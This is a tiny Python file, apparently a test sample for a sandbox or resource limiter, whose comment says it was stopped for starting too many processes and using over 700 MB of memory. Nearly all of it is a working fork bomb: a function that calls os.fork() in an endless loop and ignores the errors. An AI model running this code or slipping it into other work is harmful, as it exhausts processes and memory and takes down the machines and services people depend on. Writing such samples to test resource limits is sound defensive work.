# stopped by: it started too many processes | it used more than 700 MB of memory
import os


def cost_of_call(*anything):
    while True:
        try:
            os.fork()
        except OSError:
            pass
